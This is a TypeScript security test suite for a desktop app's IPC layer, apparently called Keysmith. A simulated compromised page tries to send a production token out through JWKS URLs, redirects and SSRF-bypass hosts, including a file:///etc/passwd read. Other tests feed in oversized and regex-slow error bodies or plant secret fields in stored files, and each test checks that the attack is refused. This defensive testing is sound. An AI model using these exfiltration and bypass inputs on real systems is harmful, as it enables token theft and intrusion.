import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Core } from '../../src/main/core/create-core';
import { ENVIRONMENTS_FILE } from '../../src/main/core/environments/environment-store';
import { createHandlers } from '../../src/main/ipc/handlers';
import { createRouter } from '../../src/main/ipc/router';
import { createSenderCheck } from '../../src/main/ipc/sender';
import type { ChannelName } from '../../src/shared/ipc/contract';
import type { Result } from '../../src/shared/result';
import { SAMPLE_OUTPUTS, SECRET_CHANNELS } from '../fixtures/channel-samples';
import { compromisedPage } from '../fixtures/compromised-page';
import { coreForTest } from '../fixtures/core-fixture';
import { STAGING_FIELDS } from '../fixtures/environment-sample';
import { SECRET_SHAPED_VALUE } from '../fixtures/fake-secrets';
import { scriptedServer, sendJson } from '../fixtures/scripted-server';
import { growthRatio, NEAR_LINEAR } from '../support/growth';

/** The JWKS path an environment's own keys are fetched from. */
const JWKS_PATH = '/.well-known/jwks.json';

/** A public RSA key as a JWKS holds it, padded to `bytes` with a long `n`. */
function jwksOf(bytes: number): string {
  return JSON.stringify({ keys: [{ kty: 'RSA', e: 'AQAB', kid: 'k1', n: 'q'.repeat(bytes) }] });
}

describe('the compromised page cannot get out (attack 3: exits)', () => {
  it('attack 3: a JWKS URL carrying the production token to the attacker is refused while the person declines, and the collector gets nothing', async () => {
    const page = await compromisedPage();
    // Suppose the page already holds the production token: the way out is what is at stake here.
    const { accessToken } = await page.core.tokens.current(page.production.id);
    const before = await page.snapshot();
    const url = `${page.collector.url}${JWKS_PATH}?t=${accessToken}`;

    const result = await page.invoke('jwt:fetch-jwks', { url });

    expect(result).toMatchObject({ ok: false, error: { kind: 'cancelled' } });
    expect(JSON.stringify(result)).not.toContain(accessToken);
    // The person saw exactly what would have been sent, query and all, in main's own window.
    expect(page.person.requests).toHaveLength(1);
    expect(page.person.requests[0]).toMatchObject({
      action: 'jwks.fetch',
      subject: url,
      warning: expect.stringMatching(/query string/),
    });
    await page.expectUnchanged(before);
    expect(page.collector.requests).toEqual([]);
  });

  it('attack 3: the same URL is fetched only once the person confirms that exact URL', async () => {
    const page = await compromisedPage();
    page.person.answer((request) => request.subject === `${page.collector.url}${JWKS_PATH}`);
    const refused = await page.invoke('jwt:fetch-jwks', {
      url: `${page.collector.url}${JWKS_PATH}?other=1`,
    });
    expect(refused).toMatchObject({ ok: false, error: { kind: 'cancelled' } });
    expect(page.collector.requests).toEqual([]);
    const fetched = await page.invoke('jwt:fetch-jwks', {
      url: `${page.collector.url}${JWKS_PATH}`,
    });
    // The collector answers a symmetric key, which is refused; the request itself was confirmed.
    expect(fetched).toMatchObject({ ok: false, error: { kind: 'validation' } });
    expect(page.collector.requests.map((request) => request.url)).toEqual([JWKS_PATH]);
  });

  it('attack 3: plain http to a host that is not a loopback literal is refused before anyone is asked', async () => {
    const page = await compromisedPage();
    const port = new URL(page.collector.url).port;
    const before = await page.snapshot();
    for (const url of [
      'http://example.com/.well-known/jwks.json',
      `http://collector.localhost:${port}${JWKS_PATH}`,
      `http://127.0.0.1.nip.io:${port}${JWKS_PATH}`,
      `http://[::ffff:127.0.0.1]:${port}${JWKS_PATH}`,
      `http://user:pw@127.0.0.1:${port}${JWKS_PATH}`,
      'file:///etc/passwd',
    ]) {
      const result = await page.invoke('jwt:fetch-jwks', { url });
      expect(result, url).toMatchObject({ ok: false, error: { kind: 'validation' } });
    }
    expect(page.person.requests).toEqual([]);
    await page.expectUnchanged(before);
  });

  it('attack 3: an oversized JWKS is refused after reading at most 1 MiB', async () => {
    const page = await compromisedPage();
    page.person.answer(true);
    const server = await scriptedServer((_request, response) => {
      // No Content-Length: the size is only found out by reading.
      response.writeHead(200, { 'content-type': 'application/json' });
      response.end(jwksOf(2 * 1024 * 1024));
    });
    const result = await page.invoke('jwt:fetch-jwks', { url: `${server.url}${JWKS_PATH}` });
    expect(result).toMatchObject({
      ok: false,
      error: { kind: 'problem', problem: { code: 'response_too_large' } },
    });
    const fits = await scriptedServer((_request, response) => {
      response.writeHead(200, { 'content-type': 'application/json' });
      response.end(jwksOf(1000 * 1024));
    });
    const ok = await page.invoke('jwt:fetch-jwks', { url: `${fits.url}${JWKS_PATH}` });
    expect(ok).toMatchObject({ ok: true, value: { keyCount: 1 } });
  });

  it('attack 3: a redirect to another origin is not followed, so the token in it goes nowhere', async () => {
    const page = await compromisedPage();
    page.person.answer(true);
    const server = await scriptedServer((request, response) => {
      if (request.url === '/keys') {
        response.writeHead(200, { 'content-type': 'application/json' });
        response.end(jwksOf(342));
        return;
      }
      const to: Record<string, string> = {
        '/away': `${page.collector.url}${JWKS_PATH}?t=token-copy`,
        '/moved': '/keys',
      };
      response.writeHead(302, { location: to[request.url] ?? '/loop' });
      response.end();
    });
    const away = await page.invoke('jwt:fetch-jwks', { url: `${server.url}/away` });
    expect(away).toMatchObject({ ok: false, error: { kind: 'validation' } });
    expect(!away.ok && away.error.message).toMatch(/another origin/);
    expect(page.collector.requests).toEqual([]);
    // Within the same origin a redirect is followed, a few times at most.
    const moved = await page.invoke('jwt:fetch-jwks', { url: `${server.url}/moved` });
    expect(moved).toMatchObject({ ok: true, value: { url: `${server.url}/moved`, keyCount: 1 } });
    const loop = await page.invoke('jwt:fetch-jwks', { url: `${server.url}/loop` });
    expect(!loop.ok && loop.error.message).toMatch(/more than 3 times/);
    expect(server.requests.map((request) => request.url)).toEqual([
      '/away',
      '/moved',
      '/keys',
      '/loop',
      '/loop',
      '/loop',
      '/loop',
    ]);
  });

  it("attack 3: an environment's own JWKS comes from its configuration, with no confirmation", async () => {
    const page = await compromisedPage();
    const result = await page.invoke('jwt:fetch-jwks', { environmentId: page.production.id });
    expect(result).toMatchObject({
      ok: true,
      value: { url: `${page.api.url}${JWKS_PATH}`, keyCount: 1 },
    });
    expect(page.person.requests).toEqual([]);
    expect(page.sandboxLog.at(-1)).toMatch(new RegExp(`^GET ${JWKS_PATH} 200`));
    expect(page.collector.requests).toEqual([]);
    const unknown = await page.invoke('jwt:fetch-jwks', { environmentId: 'no-such-env' });
    expect(unknown).toMatchObject({ ok: false, error: { kind: 'not-found' } });
    // A page that mixes both shapes, to smuggle a URL beside an environment, is refused.
    const mixed = await page.invoke('jwt:fetch-jwks', {
      environmentId: page.production.id,
      url: page.collector.url,
    });
    expect(mixed).toMatchObject({ ok: false, error: { kind: 'validation' } });
    expect(page.collector.requests).toEqual([]);
  });
});

describe('untrusted text cannot freeze main (attack 4)', () => {
  /** An error body of about n characters built to be slow to excerpt, with secrets inside. */
  const adversarialBodies: Readonly<Record<string, (n: number) => string>> = {
    'an HTML page with unclosed titles and a secret': (n) =>
      `<title>client_secret=${SECRET_SHAPED_VALUE} ${'<title>'.repeat(n / 7)}`,
    'a quote followed by "secret" without end': (n) =>
      `{"client_secret":"${SECRET_SHAPED_VALUE}", "${'secret'.repeat(n / 6)}`,
    'a problem document with secrets nested deep and wide': (n) =>
      JSON.stringify({
        type: 'about:blank',
        title: 'Oops',
        status: 500,
        detail: 'd'.repeat(n / 2),
        echo: Array.from({ length: n / 200 }, () => ({
          request: { password: SECRET_SHAPED_VALUE, Client_Secret: SECRET_SHAPED_VALUE },
        })),
      }),
  };
  for (const [name, make] of Object.entries(adversarialBodies)) {
    it(`attack 4: a 1 MiB+ error body (${name}) is handled in near-linear time, and the error holds no secret`, async () => {
      const page = await compromisedPage();
      page.person.answer(true);
      const bodies = new Map<string, string>();
      const server = await scriptedServer((request, response) => {
        const body = bodies.get(request.url) ?? '';
        const type = body.startsWith('<') ? 'text/html' : 'application/problem+json';
        response.writeHead(500, { 'content-type': type });
        response.end(body);
      });
      const errors: string[] = [];
      const urlFor = (n: number): string => {
        const path = `/jwks-${n}.json`;
        bodies.set(path, make(n));
        return `${server.url}${path}`;
      };
      // 150 KB and 1.5 MB: the larger one is cut at 1 MiB on the way in.
      const ratio = await growthRatio(
        urlFor,
        async (url) => {
          const result = await page.invoke('jwt:fetch-jwks', { url });
          expect(result.ok).toBe(false);
          if (!result.ok) errors.push(JSON.stringify(result.error));
        },
        150_000,
      );
      expect(ratio).toBeLessThan(NEAR_LINEAR);
      expect(errors.length).toBeGreaterThan(2);
      for (const error of new Set(errors)) {
        expect(error).not.toContain(SECRET_SHAPED_VALUE);
        expect(error).not.toContain('dinie_cs_');
      }
      expect(page.collector.requests).toEqual([]);
    }, 60_000);
  }
});

/** Every channel that only reads, called as the page would, with what it answered. */
async function readEverything(core: Core, environmentId: string): Promise<string> {
  const router = createRouter({
    handlers: createHandlers(core),
    checkSender: createSenderCheck(['app://keysmith']),
  });
  const inputs: Partial<Record<ChannelName, unknown>> = {
    'app:info': undefined,
    'environments:list': undefined,
    'environments:get-selected': undefined,
    'credentials:list': { environmentId },
    'token:state': { environmentId },
    'token:renew': { environmentId },
    'rotation:get': { environmentId },
    'audit:list': {},
    'audit:verify': undefined,
    'jwt:watch-list': undefined,
  };
  const answers: Record<string, Result<unknown>> = {};
  for (const [channel, input] of Object.entries(inputs)) {
    expect(SECRET_CHANNELS.has(channel as ChannelName), channel).toBe(false);
    answers[channel] = await router.dispatch(channel, input, {
      url: 'app://keysmith/index.html',
      isMainFrame: true,
    });
  }
  return JSON.stringify(answers);
}

describe('only declared fields reach the page (attack 7: outputs)', () => {
  it('attack 7: a secret-shaped member added to profiles.json, the API’s credential list and a rotation record never reaches a non-secret channel', async () => {
    const api = await scriptedServer((request, response) => {
      if (request.url === '/auth/token') {
        sendJson(response, 200, { access_token: 'tok-1', token_type: 'Bearer', expires_in: 3600 });
        return;
      }
      // A later API version lists each credential with members Keysmith never asked for.
      sendJson(response, 200, {
        data: [
          {
            id: 'cred_1',
            client_id: 'ci_1',
            name: 'CI',
            status: 'active',
            expires_at: null,
            created_at: '2026-01-01T00:00:00Z',
            updated_at: '2026-01-01T00:00:00Z',
            last_used_at: null,
            client_secret: SECRET_SHAPED_VALUE,
            password: SECRET_SHAPED_VALUE,
          },
        ],
      });
    });
    const { core, dataDir, restart } = await coreForTest();
    const { environment } = await core.environments.add({
      ...STAGING_FIELDS,
      baseUrl: api.url,
      clientId: 'ci_1',
      clientSecret: 'the-stored-secret-of-ci_1',
      saveUnverified: false,
    });
    await core.dispose();

    // profiles.json grows members on disk: in an environment and at the top.
    const file = join(dataDir, ENVIRONMENTS_FILE);
    const profiles = JSON.parse(await readFile(file, 'utf8')) as {
      environments: Record<string, unknown>[];
    };
    profiles.environments[0]!['clientSecret'] = SECRET_SHAPED_VALUE;
    profiles.environments[0]!['password'] = SECRET_SHAPED_VALUE;
    await writeFile(file, JSON.stringify({ ...profiles, apiKey: SECRET_SHAPED_VALUE }));
    // A rotation record grows one too.
    const rotation = {
      ...SAMPLE_OUTPUTS['rotation:get'],
      environmentId: environment.id,
      clientSecret: SECRET_SHAPED_VALUE,
    };
    await writeFile(
      join(dataDir, 'rotations.json'),
      JSON.stringify({ version: 1, rotations: [rotation] }),
    );

    const after = await restart();
    const answers = await readEverything(after, environment.id);
    expect(answers).toContain('"ok":true');
    expect(answers).toContain('ci_1');
    expect(answers).not.toContain(SECRET_SHAPED_VALUE);
    expect(answers).not.toContain('the-stored-secret-of-ci_1');
    // The member dropped on reading is not written back either.
    await after.environments.update(environment.id, { name: 'Renamed' });
    expect(await readFile(file, 'utf8')).not.toContain(SECRET_SHAPED_VALUE);
  });
});
